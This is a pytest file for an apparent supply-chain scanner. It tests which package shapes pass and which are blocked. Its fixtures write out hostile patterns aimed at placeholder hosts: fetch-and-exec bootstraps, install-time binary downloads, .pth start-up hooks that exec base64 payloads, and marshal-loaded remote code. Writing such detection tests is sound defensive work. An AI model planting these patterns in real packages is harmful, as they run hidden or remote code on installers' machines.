"""Shapes of honest source distributions that once raised a false alarm, and the twin of each that must not get through."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from gatekeeper.model import Ruling
from tests.support.judging import allows, blocks, checks_of, explained, importing, installing, judged
from tests.support.packages import sdist, wheel

if TYPE_CHECKING:
    from pathlib import Path

    from tests.support.packages import Files

PLAIN = "from setuptools import find_packages, setup\nsetup(name='acme-thing', {})\n"
PACKAGED = PLAIN.format("packages=find_packages('src'), package_dir={'': 'src'}")
BOOTSTRAP = """
import subprocess, sys, tempfile
from urllib.request import urlopen
ez = {}
exec(urlopen('https://files.example/ez_setup.py').read(), ez)
ez['use_setuptools'](to_dir=tempfile.mkdtemp())
subprocess.call([sys.executable, '-m', 'easy_install', 'zc.buildout'])
"""
BESIDE: dict[str, Files] = {
    "a bootstrap of its authors": {"bootstrap.py": BOOTSTRAP},
    "scripts of its authors": {"scripts/internal/winmake.py": BOOTSTRAP},
    "a benchmark that fetches a text": {"bench/words.py": "import os\nos.system('wget http://files.example/a -O b.txt')\n"},
    "a test that calls the time service": {
        "test.py": "import socket\nsocket.socket().connect(('time.example', 13))\n",
        "test_all.py": "import socket\nsocket.socket().connect(('time.example', 13))\n",
    },
}  # fmt: skip


@pytest.mark.parametrize("what", BESIDE)
def test_what_lies_beside_the_package_raises_no_question(tmp_path: Path, what: str) -> None:
    verdict = installing(tmp_path, PACKAGED, {"src/acme/__init__.py": "", **BESIDE[what]})
    assert allows(verdict), explained(verdict)


@pytest.mark.parametrize(
    "words",
    [
        "packages=['acme'], package_dir={'acme': 'src/acme'}, py_modules=['bootstrap']",
        "py_modules=['bootstrap']",
        "packages=[''], package_dir={'': '.'}",
        "",
    ],
)
def test_the_same_bootstrap_is_refused_where_it_is_installed(tmp_path: Path, words: str) -> None:
    verdict = installing(tmp_path, PLAIN.format(words), {"src/acme/__init__.py": "", "bootstrap.py": BOOTSTRAP})
    assert blocks(verdict), explained(verdict)


def test_the_same_bootstrap_is_refused_where_setup_runs_it(tmp_path: Path) -> None:
    for way in (
        "import bootstrap\n",
        "exec(open('bootstrap.py').read())\n",
        "import runpy\nrunpy.run_path('bootstrap.py')\n",
    ):
        verdict = installing(tmp_path, way + PACKAGED, {"src/acme/__init__.py": "", "bootstrap.py": BOOTSTRAP})
        assert blocks(verdict), explained(verdict)


TYPED = """
import os
from urllib.request import urlopen
from setuptools import Command, setup
class Update(Command):
    def run(self):
        with open('table.txt', 'wb') as table:
            table.write(urlopen('http://tables.example/table.txt').read())
setup(name='acme-thing', packages=['acme'], cmdclass={%s})
"""


def test_a_command_for_authors_may_fetch_what_it_likes(tmp_path: Path) -> None:
    verdict = installing(tmp_path, TYPED % "'update': Update")
    assert allows(verdict), explained(verdict)
    assert blocks(installing(tmp_path, TYPED % "'build_py': Update"))


TESTING = """
import subprocess, sys
from setuptools import setup
from setuptools.command.test import test
class PyTest(test):
    def finalize_options(self):
        subprocess.check_call([sys.executable, 'setup.py', 'install'], cwd='vectors')
setup(name='acme-thing', packages=['acme'], cmdclass={'test': PyTest})
"""


def test_a_test_command_may_install_its_vectors(tmp_path: Path) -> None:
    verdict = installing(tmp_path, TESTING)
    assert allows(verdict), explained(verdict)


FETCH = """
from urllib.request import urlopen
from setuptools import Extension, setup
def library():
    with open('library.bin', 'wb') as out:
        out.write(urlopen('{}').read())
library()
setup(name='acme-thing', ext_modules=[Extension('acme', ['acme.c'])])
"""
HOME = "Metadata-Version: 2.1\nName: acme-thing\nVersion: 1.0\nHome-page: {}\n\nSee https://stranger.example/\n"


def test_sources_of_a_known_project_are_a_question_and_a_strangers_are_refused(tmp_path: Path) -> None:
    asked = installing(tmp_path, FETCH.format("https://ftp.gnu.org/pub/gnu/libiconv/"))
    assert asked.ruling is Ruling.ASK, explained(asked)
    assert blocks(installing(tmp_path, FETCH.format("https://stranger.example/libiconv/")))


@pytest.mark.parametrize(
    ("home", "address", "ruling"),
    [
        ("https://acme.example", "https://files.acme.example/a.dll", Ruling.ASK),
        ("https://www.acme.example/", "https://acme.example/a.dll", Ruling.ASK),
        ("https://acme.example", "https://notacme.example/a.dll", Ruling.BLOCK),
        ("https://acme.example", "https://stranger.example/a.dll", Ruling.BLOCK),
        ("https://acme.example", "http://files.acme.example/a.dll", Ruling.BLOCK),
        ("https://transfer.sh", "https://transfer.sh/a.dll", Ruling.BLOCK),
        ("https://example", "https://acme.example/a.dll", Ruling.BLOCK),
    ],
)
def test_the_projects_own_site_is_a_question(tmp_path: Path, home: str, address: str, ruling: Ruling) -> None:
    files = {"setup.py": FETCH.format(address), "PKG-INFO": HOME.format(home)}
    verdict = judged(sdist("acme-thing", files=files, static=None), tmp_path)
    assert verdict.ruling is ruling, explained(verdict)


def test_asking_for_the_kernels_version_raises_no_question(tmp_path: Path) -> None:
    kernel = "import os\nversion = os.popen('uname -r').read().split('.')[:3]\n" + PACKAGED
    assert allows(installing(tmp_path, kernel))
    for word in ("uname -a", "uname -n", "whoami", "uname -r > /tmp/x"):
        verdict = installing(tmp_path, f"import os\nos.system('{word}')\n{PACKAGED}")
        assert not allows(verdict), (word, explained(verdict))


STARTER = "import os; exec('if os.getenv(\"ACME_START\"):\\n import acme_thing\\n acme_thing.start()')\n"
SETTINGS = "import base64, json, os\ndef start():\n    return json.loads(base64.b64decode(os.environ['ACME_START']))\n"


def test_a_start_up_file_that_reads_an_encoded_setting_raises_no_question(tmp_path: Path) -> None:
    built = wheel("acme-thing", files={"a1_acme.pth": STARTER, "acme_thing/__init__.py": SETTINGS})
    verdict = judged(built, tmp_path)
    assert allows(verdict), explained(verdict)


@pytest.mark.parametrize(
    "code",
    [
        "import base64, os\ndef start():\n    exec(base64.b64decode(os.environ['ACME_START']))\n",
        "import base64, os\ndef start():\n    os.system(base64.b64decode('dHJ1ZQ==').decode())\n",
        "import urllib.request\ndef start():\n    urllib.request.urlopen('https://acme.example/')\n",
    ],
)
def test_a_start_up_file_that_acts_is_refused(tmp_path: Path, code: str) -> None:
    built = wheel("acme-thing", files={"a1_acme.pth": STARTER, "acme_thing/__init__.py": code})
    verdict = judged(built, tmp_path)
    assert blocks(verdict), explained(verdict)


BY_TIME, UNCHECKED = b"\0\0\0\0", b"\1\0\0\0"


def compiled(flags: bytes) -> bytes:
    return b"\xa7\r\r\n" + flags + b"\0" * 8 + b"\xff not marshalled"


@pytest.mark.parametrize("kind", ["wheel", "sdist"])
def test_compiled_files_that_python_never_looks_at_raise_no_question(tmp_path: Path, kind: str) -> None:
    files: Files = {
        "acme/__init__.py": "",
        "acme/__init__.pyc": compiled(UNCHECKED),
        "acme/one.py": "",
        "acme/__pycache__/one.cpython-311.pyc": compiled(BY_TIME),
        "acme/__pycache__/gone.cpython-311.pyc": compiled(UNCHECKED),
    }
    make = wheel if kind == "wheel" else sdist
    verdict = judged(make("acme-thing", files=files if kind == "wheel" else {"setup.py": PACKAGED, **files}), tmp_path)
    assert allows(verdict), explained(verdict)


@pytest.mark.parametrize("path", ["acme/two.pyc", "acme/__pycache__/__init__.cpython-311.pyc"])
def test_compiled_files_that_python_imports_are_not_passed_over(tmp_path: Path, path: str) -> None:
    verdict = judged(wheel("acme-thing", files={"acme/__init__.py": "", path: compiled(UNCHECKED)}), tmp_path)
    assert "not-fully-read" in checks_of(verdict), explained(verdict)
    assert not allows(verdict), explained(verdict)


CALLED = {
    "work handed to another process": "import marshal, types\ndef serve(comm):\n    task = comm.recv()\n"
    "    return types.FunctionType(marshal.loads(task.code), globals())\n",
    "a reply that is a literal": "import socket\ndef ask(where):\n    s = socket.socket()\n    s.connect(where)\n"
    "    return eval(s.recv(99), {'__builtins__': {}})\n",
    "an expression of joined characters": "def value(letters):\n    return eval(''.join(chr(one) for one in letters))\n",
}  # fmt: skip


@pytest.mark.parametrize("what", CALLED)
def test_what_a_caller_hands_over_raises_no_question(tmp_path: Path, what: str) -> None:
    verdict = importing(tmp_path, CALLED[what])
    assert allows(verdict), explained(verdict)


@pytest.mark.parametrize(
    "code",
    [
        "import marshal, requests, types\ndef go():\n    exec(marshal.loads(requests.get('https://a.example').content))\n",
        "import base64\ndef go():\n    exec(base64.b64decode('aW1wb3J0IG9z' * 9))\n",
        "import requests\neval(requests.get('https://a.example').text, {'__builtins__': {}})\n",
    ],
)
def test_what_the_package_hides_itself_is_a_question_at_least(tmp_path: Path, code: str) -> None:
    verdict = importing(tmp_path, code)
    assert not allows(verdict), explained(verdict)


def test_a_large_table_that_names_nothing_which_acts_raises_no_question(tmp_path: Path) -> None:
    table = "import numpy\nX = numpy.asarray([\n" + "[" + "0.25, " * 2000 + "],\n" * 1
    large = table + ("[" + "0.25, " * 2000 + "],\n") * 220 + "])\n"
    assert len(large) > 2 << 20
    assert allows(importing(tmp_path, "", {"acme_thing/table.py": large}))
    acting = importing(tmp_path, "", {"acme_thing/table.py": large + "import subprocess\nsubprocess.run(X)\n"})
    assert not allows(acting), explained(acting)
